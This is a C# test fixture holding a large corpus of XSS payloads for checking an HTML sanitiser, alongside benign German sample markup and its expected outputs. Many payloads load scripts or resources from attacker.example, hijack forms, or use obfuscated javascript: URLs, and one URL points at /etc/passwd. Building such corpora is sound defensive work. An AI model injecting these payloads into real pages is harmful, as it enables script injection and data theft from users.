namespace ClaimTracker.Tests.Shared;

/// <summary>
/// Hostile and benign rich-text inputs for the sanitiser. Every hostile vector, if any of it survived,
/// would call <c>__probe()</c>, <c>alert()</c> or <c>print()</c>, or make the browser request
/// attacker.example. Shared by the unit tests (what the sanitiser outputs) and the browser test
/// (what Chromium does with that output).
/// </summary>
public static class XssCorpus
{
    public const string ProbeHost = "attacker.example";

    private static readonly string[] Handlers =
    [
        "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onpointerenter",
        "ontoggle", "onbegin", "onpageshow", "onscroll", "oninput", "onauxclick", "onfocusin",
    ];

    // Elements with the attributes that make their events fire without a user (src=x errors, autofocus focuses).
    private static readonly string[] HandlerHosts =
    [
        "img src=x", "svg", "details open", "input autofocus", "video src=x", "body", "p tabindex=1 autofocus",
        "a href=https://ok.example/ tabindex=1 autofocus", "strong style=animation-name:x", "td",
    ];

    private static readonly string[] HostileUrls =
    [
        "javascript:__probe()", "JaVaScRiPt:__probe()", "java\tscript:__probe()", "java&#x09;script:__probe()",
        "java&#10;script:__probe()", "&#106;avascript:__probe()", "&#x6A;avascript:__probe()",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058__probe()",
        " \u0001javascript:__probe()", "javascript&colon;__probe()", "&#14;javascript:__probe()", "javascript\u200B:__probe()",
        "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wcm9iZSgpPC9zY3JpcHQ+",
        "data:text/html,<script>parent.__probe()</script>", "jav&NewLine;ascript&colon;__probe()",
        "//attacker.example/x", "/relative/x", "file:///etc/passwd", "http:/attacker.example",
    ];

    private static readonly string[] Handwritten =
    [
        // Script variants
        "<script>__probe()</script>",
        "<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>",
        "<script/src=https://attacker.example/x.js></script>",
        "<<script>__probe();//<</script>",
        "<scr<script>ipt>__probe()</scr</script>ipt>",
        "<script type=\"text/javascript\">alert(1)</script>",
        "</script><script>__probe()</script>",
        "<script>/*</script><script>*/__probe()</script>",
        "<script\n>print()</script\n>",
        "<p>Text<script>__probe()</script>mehr Text</p>",
        "<scRipt >__probe()</scRipt >",
        "<script>document.write('<img src=https://attacker.example/w>')</script>",
        // SVG and MathML
        "<svg onload=__probe()>",
        "<svg><script>__probe()</script></svg>",
        "<svg><a xlink:href=\"javascript:__probe()\"><text x=20 y=20>x</text></a></svg>",
        "<svg><animate onbegin=__probe() attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:__probe() /></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.__probe()</script>\"></iframe></foreignObject></svg>",
        "<svg><image href=https://attacker.example/i.png /></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__probe()'/></svg>#x\"/></svg>",
        "<math href=\"javascript:__probe()\">klick</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:__probe()>x</maction></math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=__probe()>",
        "<math><mi><table><mi><svg><style><img src=x onerror=__probe()>",
        // Namespace confusion and mutation
        "<noscript><p title=\"</noscript><img src=x onerror=__probe()>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__probe()>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=__probe()>\">",
        "<xmp><p title=\"</xmp><img src=x onerror=__probe()>\">",
        "<template><img src=x onerror=__probe()></template>",
        "<p><svg><style>*{}</style><img src=x onerror=__probe()></svg></p>",
        "<table><td><style><img src=x onerror=__probe()></style></td></table>",
        "<select><template><img src=x onerror=__probe()></template></select>",
        "<svg><p><style><img src=x onerror=__probe()></style></p></svg>",
        "<math><style><img src=x onerror=__probe()></style></math>",
        "<noembed><img title=\"</noembed><img src=x onerror=__probe()>\"></noembed>",
        "<noframes><p title=\"</noframes><img src=x onerror=__probe()>\"></noframes>",
        "<table><caption><svg><desc><style><img src=x onerror=__probe()>",
        "<a href=\"https://ok.example/\"><table><a href=javascript:__probe()>x</a></table></a>",
        "<p title=\"&lt;/p&gt;&lt;img src=x onerror=__probe()&gt;\">Titel</p>",
        "<abbr title=\"&quot;&gt;&lt;img src=x onerror=__probe()&gt;\">KCNA</abbr>",
        "<span title=\"x\" onmouseover=__probe()>ohne Attribute</span>",
        "<pre><code>&lt;script&gt;__probe()&lt;/script&gt;</code></pre><script>__probe()</script>",
        // RCDATA and raw-text breakouts
        "<title></title><img src=x onerror=__probe()>",
        "<textarea></textarea><img src=x onerror=__probe()>",
        "<textarea><img src=x onerror=__probe()></textarea>",
        "<title><img src=x onerror=__probe()></title>",
        "<style></style><img src=x onerror=__probe()>",
        "<iframe></iframe><img src=x onerror=__probe()>",
        "<plaintext><img src=x onerror=__probe()>",
        "<textarea><script>__probe()</script></textarea>",
        "<xmp><script>__probe()</script></xmp>",
        // CSS
        "<div style=\"background:url(javascript:__probe())\">x</div>",
        "<p style=\"width:expression(__probe())\">x</p>",
        "<style>@import 'https://attacker.example/x.css';</style>",
        "<style>body{background:url(https://attacker.example/bg)}</style>",
        "<span style=\"behavior:url(https://attacker.example/x.htc)\">x</span>",
        "<link rel=stylesheet href=https://attacker.example/x.css>",
        "<p style=\"background-image:url('https://attacker.example/track')\">x</p>",
        "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=__probe()>x</p>",
        "<p class=\"x\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Overlay</p>",
        "<style>*{background:url(\"https://attacker.example/all\")}</style>",
        // meta, base, forms
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__probe()\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/\">",
        "<base href=\"https://attacker.example/\"><a href=\"x\">x</a>",
        "<base href=\"javascript:__probe()//\"><a href=\"/x\">x</a>",
        "<form action=\"javascript:__probe()\"><button>los</button></form>",
        "<form action=https://attacker.example/><input type=submit></form>",
        "<button formaction=\"javascript:__probe()\">x</button>",
        "<input type=image src=x onerror=__probe()>",
        "<isindex action=javascript:__probe() type=image>",
        "<form><input name=x autofocus onfocus=__probe()></form>",
        "<keygen autofocus onfocus=__probe()>",
        // Embedded documents
        "<iframe srcdoc=\"&lt;script&gt;parent.__probe()&lt;/script&gt;\"></iframe>",
        "<iframe src=\"javascript:parent.__probe()\"></iframe>",
        "<iframe src=\"https://attacker.example/\"></iframe>",
        "<object data=\"javascript:__probe()\"></object>",
        "<embed src=\"javascript:__probe()\">",
        "<object data=\"data:text/html,<script>parent.__probe()</script>\"></object>",
        "<frameset onload=__probe()><frame src=https://attacker.example/></frameset>",
        "<portal src=https://attacker.example/></portal>",
        // DOM clobbering (no call, but ids and names must not survive)
        "<a id=\"__probe\">x</a>",
        "<form name=\"__probe\"></form>",
        "<img name=\"getElementById\">",
        "<a id=defaultView name=defaultView>x</a>",
        "<p id=\"alert\">x</p>",
        "<form id=x><input name=attributes></form>",
        "<span name=\"cookie\">x</span>",
        "<a name=\"__proto__\">x</a>",
        "<a id=\"x\" data-bind=\"__probe()\">x</a>",
        // Requests and odds and ends
        "<img src=\"https://attacker.example/pixel\">",
        "<img srcset=\"https://attacker.example/x 1x\">",
        "<a ping=\"https://attacker.example/\" href=\"https://ok.example/\">x</a>",
        "<table background=\"https://attacker.example/bg\"><tr><td background=\"https://attacker.example/td\">x</td></tr></table>",
        "<video poster=\"https://attacker.example/poster\"></video>",
        "<audio src=\"https://attacker.example/a.mp3\" autoplay></audio>",
        "<a href=\"https://ok.example/\" onclick=\"__probe()\">x</a>",
        "<a href=\"https://ok.example/\" target=\"_blank\">x</a>",
        "<!--<img src=x onerror=__probe()>-->",
        "<![CDATA[<img src=x onerror=__probe()>]]>",
        "<?xml-stylesheet href=\"javascript:__probe()\"?>",
        "<img src=x:alert(1) onerror=eval(src)>",
        "<div data-x=\"y\" onmouseover=__probe()>x</div>",
        "<marquee onstart=__probe()>x</marquee>",
        "<video><source onerror=__probe()></video>",
        "<body onload=__probe()>",
        "<details open ontoggle=__probe()><summary>x</summary></details>",
        "<a href=\"java&#x09;script:__probe()\">tab</a>",
        "<a href=\"  javascript:__probe()\">leading spaces</a>",
        "<a href=\"https://ok.example/\" href=\"javascript:__probe()\">doppelt</a>",
        "<a href=https://ok.example/ title=\"x\"onmouseover=__probe()>x</a>",
        "<img/src=x/onerror=__probe()>",
        "<img src=x onerror\n=__probe()>",
        "<img src=`x`onerror=__probe()>",
        "<img\u000csrc=x\u000conerror=__probe()>",
        "<div><p>\u0000<script>__probe()</script></p></div>",
        "<a href=\"&#x26;#x6A;avascript:__probe()\">double encoded</a>",
        "<q cite=\"javascript:__probe()\">Zitat</q>",
        "<blockquote cite=\"javascript:__probe()\">Zitat</blockquote>",
        "<td colspan=\"2 onmouseover=__probe()\">x</td>",
        "<h2 onclick=__probe()>Titel</h2>",
    ];

    /// <summary>Every hostile input: generated (handlers on elements, hostile URLs) and hand-written.</summary>
    public static IReadOnlyList<string> Vectors { get; } = Build();

    /// <summary>Benign formatting and the exact output expected for it.</summary>
    public static IReadOnlyList<(string Input, string Expected)> Benign { get; } =
    [
        ("<p>Nordkorea liefert <strong>Artillerie</strong> und <em>Raketen</em> an Russland.</p>",
         "<p>Nordkorea liefert <strong>Artillerie</strong> und <em>Raketen</em> an Russland.</p>"),
        ("<p>„Wir haben nichts geliefert“, erklärten Pjöngjang und Moskau.</p>",
         "<p>„Wir haben nichts geliefert“, erklärten Pjöngjang und Moskau.</p>"),
        ("<blockquote><p>Mehr als 10.000 Soldaten</p><cite>KCNA</cite></blockquote>",
         "<blockquote><p>Mehr als 10.000 Soldaten</p><cite>KCNA</cite></blockquote>"),
        ("<ul><li>Artilleriegranaten</li><li>Raketen</li></ul><ol><li>2023</li><li>2024</li></ol>",
         "<ul><li>Artilleriegranaten</li><li>Raketen</li></ul><ol><li>2023</li><li>2024</li></ol>"),
        ("<h2>Überblick</h2><h3>Vorwurf</h3><h4>Dementi</h4>", "<h2>Überblick</h2><h3>Vorwurf</h3><h4>Dementi</h4>"),
        ("<a href=\"https://www.example.org/artikel?id=1&amp;x=2\" title=\"Quelle\">Quelle</a>",
         "<a href=\"https://www.example.org/artikel?id=1&amp;x=2\" title=\"Quelle\" rel=\"nofollow noopener noreferrer\">Quelle</a>"),
        ("<a href=\"mailto:faktencheck@example.org\">Mail</a>",
         "<a href=\"mailto:faktencheck@example.org\" rel=\"nofollow noopener noreferrer\">Mail</a>"),
        ("<table><thead><tr><th colspan=\"2\">Datum</th></tr></thead><tbody><tr><td>2024</td><td rowspan=\"1\">Juni</td></tr></tbody></table>",
         "<table><thead><tr><th colspan=\"2\">Datum</th></tr></thead><tbody><tr><td>2024</td><td rowspan=\"1\">Juni</td></tr></tbody></table>"),
        ("<p>H<sub>2</sub>O, E=mc<sup>2</sup>, <s>alt</s> <u>neu</u>, <b>fett</b> <i>kursiv</i></p>",
         "<p>H<sub>2</sub>O, E=mc<sup>2</sup>, <s>alt</s> <u>neu</u>, <b>fett</b> <i>kursiv</i></p>"),
        ("<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {}</code></pre>", "<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {}</code></pre>"),
        ("<p><abbr title=\"Korean Central News Agency\">KCNA</abbr> meldet <q cite=\"https://kcna.example/meldung\">Freundschaft</q></p>",
         "<p><abbr title=\"Korean Central News Agency\">KCNA</abbr> meldet <q cite=\"https://kcna.example/meldung\">Freundschaft</q></p>"),
        ("<p>Zeile eins<br>Zeile zwei</p><hr><p><span>Fußnote</span></p>", "<p>Zeile eins<br>Zeile zwei</p><hr><p><span>Fußnote</span></p>"),
        ("5 &lt; 6 &amp; 7 &gt; 3 – „Anführungszeichen“", "5 &lt; 6 &amp; 7 &gt; 3 – „Anführungszeichen“"),
        ("<p>Ein Absatz über <strong><em>verschachtelte</em></strong> Formatierung.</p>",
         "<p>Ein Absatz über <strong><em>verschachtelte</em></strong> Formatierung.</p>"),
        ("<div class=\"artikel\"><p style=\"color:red\">Text aus einer Agenturmeldung</p></div>",
         "<p>Text aus einer Agenturmeldung</p>"),
        ("<p><a href=\"https://xn--mnchen-3ya.example/\">München</a></p>",
         "<p><a href=\"https://xn--mnchen-3ya.example/\" rel=\"nofollow noopener noreferrer\">München</a></p>"),
    ];

    private static List<string> Build()
    {
        var vectors = new List<string>();
        foreach (var host in HandlerHosts)
        {
            var name = host.Split(' ')[0];
            foreach (var handler in Handlers)
            {
                vectors.Add($"<{host} {handler}=\"__probe('{name}-{handler}')\">Text</{name}>");
            }
        }
        foreach (var url in HostileUrls)
        {
            vectors.Add($"<a href=\"{url}\">Quelle</a>");
            vectors.Add($"<q cite=\"{url}\">Zitat</q>");
        }
        vectors.AddRange(Handwritten);
        return vectors;
    }
}
